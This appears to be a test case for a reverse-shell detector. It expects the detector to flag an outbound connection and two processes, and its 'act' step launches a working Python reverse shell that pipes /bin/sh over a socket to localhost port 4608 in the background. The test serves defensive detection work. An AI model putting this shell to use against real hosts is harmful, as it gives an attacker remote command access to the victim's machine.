# R31: a relay that spins, for a second and a half
# stage: behaviour
# within: 1500 ms
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4608
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
commander 4608 1.5 id
#: act
. lib/peers.sh
act
python3 -c '
import os, socket, subprocess, threading
s = socket.create_connection(("127.0.0.1", 4608)); s.setblocking(False)
shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
os.set_blocking(shell.stdout.fileno(), False)
while True:
    for source, sink in ((s.fileno(), shell.stdin.fileno()), (shell.stdout.fileno(), s.fileno())):
        try: data = os.read(source, 4096)
        except BlockingIOError: continue
        if not data: os._exit(0)
        os.write(sink, data)' < /dev/null > /dev/null 2>&1 &
who shell /bin/sh
